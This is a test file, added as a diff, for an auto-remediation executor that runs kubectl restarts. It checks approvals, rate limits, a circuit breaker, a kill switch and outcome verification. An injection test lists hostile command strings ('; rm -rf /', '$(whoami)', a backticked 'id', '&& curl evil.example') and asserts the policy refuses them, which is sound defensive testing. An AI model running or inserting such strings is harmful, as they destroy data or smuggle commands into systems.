@@ -1,0 +1,560 @@
+"""The execution stage's handlers against real PostgreSQL, a real stand-in kubectl and a real
+Elasticsearch stub. Nothing is mocked; the clock is passed in (``now=``) instead of slept on."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import uuid
+from datetime import UTC, datetime, timedelta
+
+import pytest
+
+from elk_resolver.db import create_pool
+from elk_resolver.executors.elasticsearch import make_client
+from elk_resolver.policy import ExecutionPolicy
+from elk_resolver.settings import make_settings
+from handlers.execute import (
+    ApprovalError,
+    Runtime,
+    approve,
+    expire_approvals,
+    handle_request,
+    list_approvals,
+    reject,
+    set_kill_switch,
+    verify_outcomes,
+)
+from streams.contracts import ExecutionRequest
+from tests.support.es_stub import EsStub
+from tests.support.fake_kubectl import write_fake_kubectl
+
+RESTART = "kubectl rollout restart deployment/api -n payments"
+T0 = datetime(2030, 1, 1, 12, 0, 0, tzinfo=UTC)
+
+
+def kube(line: str = RESTART, **extra) -> dict:
+    return {"type": "kubectl", "command": line, "description": "", "safe": True, "critical": True, **extra}
+
+
+def exec_settings(database_url: str, fake=None, **overrides):
+    fields = {
+        "database_url": database_url,
+        "execution_mode": "live",
+        "kubectl_namespaces": ["payments"],
+        "command_timeout_s": 5.0,
+        "cooldown_s": 600.0,
+        "max_runs_per_hour": 3,
+        "breaker_threshold": 3,
+        "stale_after_s": 900.0,
+        "approval_ttl_s": 3600.0,
+        "verification_window_s": 900.0,
+        **overrides,
+    }
+    if fake is not None:
+        fields["kubectl_path"] = str(fake.path)
+    return make_settings(**fields)
+
+
+async def seed(pool, *, commands=None, source="playbook", message=None) -> tuple[int, int, str]:
+    """An error_logs row and one solution for it (the FKs the requests refer to)."""
+    message = message or f"CrashLoopBackOff pod api-{uuid.uuid4().hex[:6]}"
+    hash_ = hashlib.sha256(message.encode()).hexdigest()
+    error_log_id = await pool.fetchval(
+        "INSERT INTO error_logs (error_type, error_message, source_system, hash_signature) "
+        "VALUES ('kubernetes', $1, 'payments/api', $2) RETURNING id",
+        message,
+        hash_,
+    )
+    commands = commands if commands is not None else [kube()]
+    solution_id = await pool.fetchval(
+        "INSERT INTO solutions (error_hash, solution_type, solution_description, solution_commands, source, content_hash) "
+        "VALUES ($1, 'restart', 'restart the deployment', $2, $3, $4) RETURNING id",
+        hash_,
+        commands,
+        source,
+        uuid.uuid4().hex,
+    )
+    return error_log_id, solution_id, hash_
+
+
+def request(ids, commands=None, *, request_id=None, at=T0, **extra) -> ExecutionRequest:
+    error_log_id, solution_id, hash_ = ids
+    return ExecutionRequest.model_validate(
+        {
+            "request_id": request_id or uuid.uuid4().hex,
+            "error_log_id": error_log_id,
+            "hash_signature": hash_,
+            "solution_id": solution_id,
+            "solution_source": "playbook",
+            "commands": commands if commands is not None else [kube()],
+            "decision": "auto",
+            "reason": "pattern auto_resolve, every command safe, playbook trusted",
+            "event_time": at,
+            "requested_at": at,
+            **extra,
+        }
+    )
+
+
+async def history(pool, solution_id=None):
+    sql = "SELECT *, extract(epoch FROM execution_time)::float8 AS secs FROM execution_history"
+    if solution_id is None:
+        return await pool.fetch(sql + " ORDER BY id")
+    return await pool.fetch(sql + " WHERE solution_id = $1 ORDER BY id", solution_id)
+
+
+async def decisions(pool, decision=None):
+    if decision is None:
+        return await pool.fetch("SELECT * FROM decision_log ORDER BY id")
+    return await pool.fetch("SELECT * FROM decision_log WHERE decision = $1 ORDER BY id", decision)
+
+
+async def solution(pool, solution_id):
+    return await pool.fetchrow("SELECT * FROM solutions WHERE id = $1", solution_id)
+
+
+async def handle(req, pool, settings, now=T0, **kw):
+    return await handle_request(
+        req, pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings), now=now, **kw
+    )
+
+
+# --- runs and the document's trigger -------------------------------------------------------
+
+
+async def test_success_failure_and_timeout_each_write_one_history_row_and_the_trigger_counts_them(
+    pool, database_url, tmp_path
+):
+    fake = write_fake_kubectl(
+        tmp_path, rules={"deployment/broken": "fail", "deployment/stuck": "hang"}
+    )
+    settings = exec_settings(database_url, fake, command_timeout_s=1.0, cooldown_s=0, max_runs_per_hour=100)
+    ids = await seed(pool)
+
+    [ok] = await handle(request(ids), pool, settings, now=T0)
+    [failed] = await handle(
+        request(ids, [kube("kubectl rollout restart deployment/broken -n payments")]), pool, settings,
+        now=T0 + timedelta(seconds=1),
+    )  # fmt: skip
+    [timeout] = await handle(
+        request(ids, [kube("kubectl rollout restart deployment/stuck -n payments")]), pool, settings,
+        now=T0 + timedelta(seconds=2),
+    )  # fmt: skip
+
+    assert [ok.outcome, failed.outcome, timeout.outcome] == ["success", "failed", "timeout"]
+    rows = await history(pool, ids[1])
+    assert [r["execution_status"] for r in rows] == ["success", "failed", "timeout"]
+    assert [r["request_id"] for r in rows] == [ok.request_id, failed.request_id, timeout.request_id]
+    assert all(r["executed_by"] == "auto-resolver" for r in rows)
+    assert rows[2]["secs"] >= 1.0  # execution_time is an INTERVAL
+    assert "hunter2" not in rows[0]["execution_output"] and "password=***" in rows[0]["execution_output"]
+    assert "killed after 1s timeout" in rows[2]["execution_output"]
+    assert ok.execution_history_id == rows[0]["id"]
+
+    s = await solution(pool, ids[1])
+    assert s["execution_count"] == 3
+    assert float(s["success_rate"]) == pytest.approx(33.33, abs=0.01)
+    assert s["last_success_at"] == rows[0]["executed_at"]
+    assert s["consecutive_failures"] == 2  # the success awaits verification; it ends no streak yet
+    assert await decisions(pool) == []  # runs are never in the decision log
+
+
+async def test_output_is_truncated_to_the_limit_and_masked(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path, default="flood", flood_bytes=50_000)
+    settings = exec_settings(database_url, fake, output_limit_bytes=2000)
+    ids = await seed(pool)
+    await handle(request(ids), pool, settings)
+    [row] = await history(pool)
+    assert len(row["execution_output"].encode()) < 2200
+    assert "output truncated" in row["execution_output"]
+    assert "hunter2" not in row["execution_output"]
+
+
+async def test_elasticsearch_command_runs_against_the_stub(pool, database_url):
+    async with EsStub() as es:
+        settings = exec_settings(database_url, elasticsearch_url=es.url)
+        cmd = {"type": "elasticsearch", "command": "clear_read_only_block index=logs-2030.01.01", "safe": True}
+        ids = await seed(pool, commands=[cmd])
+        client = make_client(settings)
+        try:
+            [result] = await handle(request(ids, [cmd]), pool, settings, runtime=Runtime(elasticsearch=client))
+        finally:
+            await client.close()
+        assert result.outcome == "success", result
+        assert es.calls("PUT") == [("PUT", "/logs-2030.01.01/_settings")]
+        [row] = await history(pool)
+        assert row["execution_status"] == "success" and "acknowledged" in row["execution_output"]
+
+
+# --- policy ----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "kubectl rollout restart deployment/api -n payments; rm -rf /",
+        "kubectl rollout restart deployment/$(whoami) -n payments",
+        "kubectl rollout restart deployment/`id` -n payments",
+        "kubectl rollout restart deployment/api -n payments\nrm -rf /",
+        "kubectl rollout restart deployment/api -n payments && curl evil.example",
+    ],
+)
+async def test_injection_attempts_are_refused_logged_and_never_run(pool, database_url, tmp_path, line):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake)
+    ids = await seed(pool)
+    [result] = await handle(request(ids, [kube(line)]), pool, settings)
+    assert result.outcome == "denied"
+    assert fake.calls() == []
+    assert await history(pool) == []
+    [logged] = await decisions(pool, "denied")
+    assert "refused by the execution policy" in logged["reason"]
+    assert logged["details"]["refused"][0]["reason"]
+
+
+async def test_verb_outside_the_allowlist_is_refused_and_logged(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake)
+    ids = await seed(pool)
+    [result] = await handle(request(ids, [kube("kubectl delete deployment/api -n payments")]), pool, settings)
+    [result2] = await handle(request(ids, [kube("kubectl exec api -n payments")]), pool, settings)
+    assert (result.outcome, result2.outcome) == ("denied", "denied")
+    assert "exec" in result2.reason and "allowlist" in result2.reason
+    assert fake.calls() == [] and await history(pool) == []
+    assert len(await decisions(pool, "denied")) == 2
+
+
+# --- storms, cooldown, rate ------------------------------------------------------------------
+
+
+async def test_a_thousand_identical_requests_within_a_minute_cause_exactly_one_run(database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake)
+    policy = ExecutionPolicy.from_settings(settings)
+    # Many connections, so the requests really race each other in the database.
+    async with await create_pool(database_url, min_size=10, max_size=20) as pool:
+        ids = await seed(pool)
+        reqs = [request(ids, at=T0 + timedelta(milliseconds=i * 50)) for i in range(1000)]
+        # Two "instances" (different claim identities), each with its own concurrency.
+        runtimes = [Runtime(instance="executor-a"), Runtime(instance="executor-b")]
+        results = await asyncio.gather(
+            *(
+                handle_request(
+                    r, pool=pool, settings=settings, policy=policy, runtime=runtimes[i % 2],
+                    now=T0 + timedelta(milliseconds=i * 50),
+                )  # fmt: skip
+                for i, r in enumerate(reqs)
+            )
+        )
+        outcomes = [res.outcome for batch in results for res in batch]
+        assert outcomes.count("success") == 1
+        assert outcomes.count("skipped") == 999
+        assert len(fake.calls()) == 1
+        assert len(await history(pool)) == 1
+        skipped = await decisions(pool, "skipped")
+        assert len(skipped) == 999 and all(r["reason"].startswith("cooldown") for r in skipped)
+        assert (await solution(pool, ids[1]))["execution_count"] == 1
+
+
+async def test_hourly_cap_limits_runs_even_without_cooldown(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, cooldown_s=0, max_runs_per_hour=2)
+    ids = await seed(pool)
+    outcomes = []
+    for i in range(4):
+        now = T0 + timedelta(minutes=i)
+        [*_, last] = await handle(request(ids, at=now), pool, settings, now=now)
+        outcomes.append(last.outcome)
+    assert outcomes == ["success", "success", "skipped", "skipped"]
+    assert "rate limit" in (await decisions(pool, "skipped"))[0]["reason"]
+    # an hour later the cap has room again
+    later = T0 + timedelta(minutes=65)
+    [*_, last] = await handle(request(ids, at=later), pool, settings, now=later)
+    assert last.outcome == "success"
+
+
+async def test_cooldown_is_per_solution_and_hash(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake)
+    a, b = await seed(pool), await seed(pool)
+    [ra] = await handle(request(a), pool, settings)
+    [rb] = await handle(request(b), pool, settings)
+    assert (ra.outcome, rb.outcome) == ("success", "success")
+    [*_, again] = await handle(request(a, at=T0 + timedelta(minutes=5)), pool, settings, now=T0 + timedelta(minutes=5))
+    assert again.outcome == "skipped"
+    [*_, after] = await handle(request(a, at=T0 + timedelta(minutes=11)), pool, settings, now=T0 + timedelta(minutes=11))
+    assert after.outcome == "success"
+
+
+# --- the breaker -----------------------------------------------------------------------------
+
+
+async def test_breaker_trips_after_n_failures_and_routes_the_next_request_to_approval_with_history(
+    pool, database_url, tmp_path
+):
+    fake = write_fake_kubectl(tmp_path, default="fail")
+    settings = exec_settings(database_url, fake, cooldown_s=0, max_runs_per_hour=100, breaker_threshold=3)
+    ids = await seed(pool)
+    for i in range(3):
+        now = T0 + timedelta(minutes=i)
+        [*_, r] = await handle(request(ids, at=now), pool, settings, now=now)
+        assert r.outcome == "failed"
+    s = await solution(pool, ids[1])
+    assert s["consecutive_failures"] == 3 and s["tripped_at"] is not None
+
+    now = T0 + timedelta(minutes=3)
+    [result] = await handle(request(ids, at=now), pool, settings, now=now)
+    assert result.outcome == "pending_approval"
+    assert "circuit breaker" in result.reason
+    event = result.details["approval"]
+    assert [h["execution_status"] for h in event["history"]] == ["failed"] * 3
+    assert len(fake.calls()) == 3
+    [pending] = await list_approvals(pool=pool)
+    assert pending["request_id"] == result.request_id
+
+    # A second request while one approval is pending does not ask again.
+    [dup] = await handle(request(ids, at=now), pool, settings, now=now)
+    assert dup.outcome == "skipped" and "already pending" in dup.reason
+
+    # A person approves a run that succeeds: the breaker closes.
+    fake.path.write_text(fake.path.read_text().replace('CONFIG["default"])', '"ok")'))
+    _, [run] = await approve(
+        pending["id"], "alice", pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings),
+        now=now + timedelta(minutes=1),
+    )  # fmt: skip
+    assert run.outcome == "success" and run.executed_by == "alice"
+    s = await solution(pool, ids[1])
+    assert s["tripped_at"] is None and s["consecutive_failures"] == 0 and s["approved_success_count"] == 1
+
+
+# --- exactly once ----------------------------------------------------------------------------
+
+
+async def test_replayed_request_runs_once(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, cooldown_s=0, max_runs_per_hour=100)
+    ids = await seed(pool)
+    req = request(ids)
+    [first] = await handle(req, pool, settings)
+    [second] = await handle(req, pool, settings, now=T0 + timedelta(minutes=30))
+    assert (first.outcome, second.outcome) == ("success", "duplicate")
+    assert len(fake.calls()) == 1 and len(await history(pool)) == 1
+    assert len(await decisions(pool, "duplicate")) == 1
+
+
+async def test_same_request_raced_by_two_instances_runs_once(database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, cooldown_s=0, max_runs_per_hour=100)
+    policy = ExecutionPolicy.from_settings(settings)
+    async with await create_pool(database_url, min_size=4, max_size=8) as pool:
+        ids = await seed(pool)
+        req = request(ids)
+        results = await asyncio.gather(
+            *(
+                handle_request(req, pool=pool, settings=settings, policy=policy, now=T0, runtime=Runtime(instance=f"i{i}"))
+                for i in range(8)
+            )
+        )
+        outcomes = sorted(r.outcome for batch in results for r in batch)
+        assert outcomes == ["duplicate"] * 7 + ["success"]
+        assert len(fake.calls()) == 1 and len(await history(pool)) == 1
+
+
+# --- approvals -------------------------------------------------------------------------------
+
+
+async def _pending(pool, settings, ids, **extra):
+    [result] = await handle(request(ids, decision="approval", reason="LLM solution not yet trusted", **extra), pool, settings)
+    assert result.outcome == "pending_approval"
+    return result
+
+
+async def test_approve_runs_the_request_with_the_approvers_name(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake)
+    ids = await seed(pool, source="llm")
+    pending = await _pending(pool, settings, ids)
+    assert fake.calls() == [] and await history(pool) == []
+    [row] = await list_approvals(pool=pool)
+    assert row["status"] == "pending" and row["reason"].startswith("analysis requires approval")
+
+    event, [run] = await approve(
+        row["id"], "alice", pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings),
+        now=T0 + timedelta(minutes=1),
+    )  # fmt: skip
+    assert event.status == "approved" and event.decided_by == "alice"
+    assert run.outcome == "success" and run.request_id == pending.request_id
+    [h] = await history(pool)
+    assert h["executed_by"] == "alice" and h["request_id"] == pending.request_id
+    assert (await solution(pool, ids[1]))["approved_success_count"] == 1
+    assert len(fake.calls()) == 1
+    # deciding twice does nothing
+    with pytest.raises(ApprovalError, match="already approved"):
+        await approve(row["id"], "bob", pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings))
+    assert len(fake.calls()) == 1
+
+
+async def test_approve_in_dry_run_mode_records_dry_run(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, execution_mode="dry-run")
+    ids = await seed(pool)
+    await _pending(pool, settings, ids)
+    [row] = await list_approvals(pool=pool)
+    _, [result] = await approve(
+        row["id"], "alice", pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings), now=T0
+    )
+    assert result.outcome == "dry_run" and result.executed_by == "alice"
+    assert fake.calls() == [] and await history(pool) == []
+    [logged] = await decisions(pool, "dry_run")
+    assert logged["decided_by"] == "alice"
+
+
+async def test_reject_denies_and_runs_nothing(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake)
+    ids = await seed(pool)
+    pending = await _pending(pool, settings, ids)
+    [row] = await list_approvals(pool=pool)
+    event, [result] = await reject(row["id"], "bob", "not during business hours", pool=pool, now=T0)
+    assert event.status == "rejected" and result.outcome == "denied"
+    assert "bob" in result.reason and "business hours" in result.reason
+    [logged] = await decisions(pool, "denied")
+    assert logged["request_id"] == pending.request_id
+    assert fake.calls() == [] and await history(pool) == []
+    with pytest.raises(ApprovalError):
+        await approve(row["id"], "alice", pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings))
+    assert fake.calls() == []
+
+
+async def test_expired_approval_is_denied_and_can_no_longer_be_approved(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, approval_ttl_s=60)
+    ids = await seed(pool)
+    await _pending(pool, settings, ids)
+    [row] = await list_approvals(pool=pool)
+    assert await expire_approvals(pool=pool, now=T0 + timedelta(seconds=30)) == ([], [])
+    with pytest.raises(ApprovalError, match="expired"):
+        await approve(
+            row["id"], "alice", pool=pool, settings=settings, policy=ExecutionPolicy.from_settings(settings),
+            now=T0 + timedelta(seconds=61),
+        )  # fmt: skip
+    events, results = await expire_approvals(pool=pool, now=T0 + timedelta(seconds=61))
+    assert [e.status for e in events] == ["expired"] and [r.outcome for r in results] == ["denied"]
+    [logged] = await decisions(pool, "denied")
+    assert "expired" in logged["reason"] and logged["details"]["expired"] is True
+    assert await list_approvals(pool=pool) == []
+    assert fake.calls() == [] and await history(pool) == []
+
+
+async def test_stale_event_never_runs_automatically(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, stale_after_s=900)
+    ids = await seed(pool)
+    [result] = await handle(request(ids, at=T0 - timedelta(hours=2)), pool, settings, now=T0)
+    assert result.outcome == "pending_approval" and "stale" in result.reason
+    [replayed] = await handle(request(ids, replay=True), pool, settings, now=T0)
+    assert replayed.outcome == "skipped" and "replay" in replayed.reason
+    assert fake.calls() == []
+
+
+# --- kill switch, off, dry-run ---------------------------------------------------------------
+
+
+async def test_kill_switch_setting_and_row_each_stop_everything(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    ids = await seed(pool)
+    by_setting = exec_settings(database_url, fake, kill_switch=True)
+    [r1] = await handle(request(ids), pool, by_setting)
+    assert r1.outcome == "skipped" and "kill switch" in r1.reason
+
+    live = exec_settings(database_url, fake)
+    await _pending(pool, live, ids)  # an approval waiting while the switch goes on
+    [row] = await list_approvals(pool=pool)
+    await set_kill_switch(True, "oncall", pool=pool, now=T0)
+    [r2] = await handle(request(ids), pool, live)
+    assert r2.outcome == "skipped" and "oncall" in r2.reason
+    with pytest.raises(ApprovalError, match="kill switch"):
+        await approve(row["id"], "alice", pool=pool, settings=live, policy=ExecutionPolicy.from_settings(live))
+    off = exec_settings(database_url, fake, execution_mode="off")
+    await set_kill_switch(False, "oncall", pool=pool, now=T0)
+    [r3] = await handle(request(ids), pool, off)
+    assert r3.outcome == "skipped" and "off" in r3.reason
+    assert fake.calls() == [] and await history(pool) == []
+    assert len(await decisions(pool, "skipped")) == 3
+
+    # switched off again, the same kind of request runs
+    [r4] = await handle(request(ids), pool, live)
+    assert r4.outcome == "success"
+
+
+async def test_dry_run_records_what_would_run_and_leaves_history_empty(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, execution_mode="dry-run")
+    ids = await seed(pool)
+    [result] = await handle(request(ids), pool, settings)
+    [again] = await handle(request(ids, at=T0 + timedelta(minutes=1)), pool, settings, now=T0 + timedelta(minutes=1))
+    assert result.outcome == "dry_run" and again.outcome == "skipped"  # cooldown applies to dry runs too
+    assert fake.calls() == [] and await history(pool) == []
+    [logged] = await decisions(pool, "dry_run")
+    [plan] = logged["details"]["would_run"]
+    assert plan["would_run"].endswith("rollout restart deployment/api -n payments")
+    s = await solution(pool, ids[1])
+    assert s["execution_count"] == 0 and float(s["success_rate"]) == 0
+    # switching to live is not blocked by the dry run's cooldown
+    [live] = await handle(request(ids, at=T0 + timedelta(minutes=2)), pool, exec_settings(database_url, fake), now=T0 + timedelta(minutes=2))
+    assert live.outcome == "success"
+
+
+# --- verification ----------------------------------------------------------------------------
+
+
+async def test_run_followed_by_the_same_error_inside_the_window_is_recurred(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, verification_window_s=300, breaker_threshold=1)
+    ids = await seed(pool)
+    [run] = await handle(request(ids), pool, settings, now=T0)
+    assert run.outcome == "success"
+    later = T0 + timedelta(minutes=2)
+    results = await handle(request(ids, at=later), pool, settings, now=later)
+    assert [r.outcome for r in results] == ["recurred", "pending_approval"]  # recurred opens the breaker (N=1)
+    assert results[0].execution_history_id == run.execution_history_id
+    s = await solution(pool, ids[1])
+    assert (s["verified_run_count"], s["verified_success_count"], float(s["verified_success_rate"])) == (1, 0, 0.0)
+    assert s["consecutive_failures"] == 1 and s["tripped_at"] is not None
+    assert float(s["success_rate"]) == 100.0  # the document's rate stays as the trigger defines it
+    assert await verify_outcomes(pool=pool, settings=settings, now=T0 + timedelta(hours=1)) == []
+
+
+async def test_recurrence_seen_by_ingest_marks_the_run_recurred(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, verification_window_s=300)
+    ids = await seed(pool)
+    [run] = await handle(request(ids), pool, settings, now=T0)
+    await pool.execute("SELECT ensure_error_occurrences_partition($1::date)", T0.date())
+    await pool.execute(
+        "INSERT INTO error_occurrences (event_identity, occurred_at, hash_signature) VALUES ('e1', $1, $2)",
+        (T0 + timedelta(minutes=1)).replace(tzinfo=None),
+        ids[2],
+    )
+    [verdict] = await verify_outcomes(pool=pool, settings=settings, now=T0 + timedelta(minutes=2))
+    assert verdict.outcome == "recurred" and verdict.reason == "error_occurrences"
+    assert verdict.execution_history_id == run.execution_history_id
+
+
+async def test_run_followed_by_silence_is_resolved(pool, database_url, tmp_path):
+    fake = write_fake_kubectl(tmp_path)
+    settings = exec_settings(database_url, fake, verification_window_s=300)
+    ids = await seed(pool)
+    await pool.execute("UPDATE solutions SET consecutive_failures = 2 WHERE id = $1", ids[1])
+    [run] = await handle(request(ids), pool, settings, now=T0)
+    assert await verify_outcomes(pool=pool, settings=settings, now=T0 + timedelta(minutes=4)) == []
+    [verdict] = await verify_outcomes(pool=pool, settings=settings, now=T0 + timedelta(minutes=6))
+    assert verdict.outcome == "resolved" and verdict.execution_history_id == run.execution_history_id
+    s = await solution(pool, ids[1])
+    assert (s["verified_run_count"], s["verified_success_count"], float(s["verified_success_rate"])) == (1, 1, 100.0)
+    assert s["consecutive_failures"] == 0
+    # a request after the window does not touch the resolved run
+    later = T0 + timedelta(minutes=20)
+    results = await handle(request(ids, at=later), pool, settings, now=later)
+    assert [r.outcome for r in results] == ["success"]
